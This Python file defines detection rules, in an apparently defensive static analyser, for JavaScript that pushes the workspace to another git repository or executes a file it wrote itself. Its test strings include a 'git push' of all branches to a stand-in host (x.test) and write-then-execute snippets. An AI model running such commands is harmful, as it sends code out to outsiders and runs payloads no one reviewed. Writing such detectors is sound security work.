"""What a program that is started does with the work: files that were written before, other repositories."""

from __future__ import annotations

import re
from collections.abc import Iterator

from engine.analysis.javascript.declare import HIGH, SECRETS, found, rule
from engine.analysis.javascript.model import Program
from engine.analysis.javascript.rules.execution import command_line, launches
from engine.analysis.javascript.values import UNKNOWN
from engine.analysis.ordinary_commands import gives_elsewhere
from engine.models import Violation

GIT_UPLOAD = rule(
    "js-git-upload",
    "Gives the work to another repository",
    "exfil_upload",
    HIGH,
    attack="Sends the files of the workspace to the attacker as commits.",
    why="HIGH: nothing that is pushed can be recalled.",
    fix="Leave results in the workspace, where they are collected.",
    match=("require('child_process').execSync('git push https://x.test/r.git --all')",),
    not_match=("require('child_process').execSync('git push')",),
    cwe=200,
    owasp=SECRETS,
)
WRITTEN_RUN = rule(
    "js-written-program",
    "Runs a file that this program writes",
    "net_download",
    HIGH,
    attack="Brings a program in, as a download or as a text, and starts it where no reviewer read it.",
    why="HIGH: the file that runs is not the code that was reviewed.",
    fix="Submit the code itself.",
    match=(
        "const fs = require('fs'); fs.writeFileSync('/tmp/a', x); require('child_process').exec('/tmp/a')",
        "require('fs').createWriteStream('a.bin').write(x); require('child_process').spawn('./a.bin')",
    ),
    not_match=("require('fs').writeFileSync('a.txt', x); require('child_process').exec('ls')",),
    cwe=494,
)


_WRITES = re.compile(r"^fs\.(?:promises\.)?(?:(?:write|append|output)File|createWriteStream)")


def check(program: Program) -> Iterator[Violation]:
    """Yield the commands that run a file of the program's own making, or push the work elsewhere."""
    commands = [call for call in program.calls if launches(call)]
    written = _written(program) if commands else set()
    for call in commands:
        line = command_line(call)
        if gives_elsewhere(line):
            yield found(GIT_UPLOAD, program, call)
        if any(path in line for path in written):
            yield found(WRITTEN_RUN, program, call)


def _written(program: Program) -> set[str]:
    """Return the known paths that the program writes, but for those too short to tell."""
    paths = (call.arg(0).text.removeprefix("./") for call in program.calls if _WRITES.match(call.path))
    return {path for path in paths if len(path) > 3 and UNKNOWN not in path}
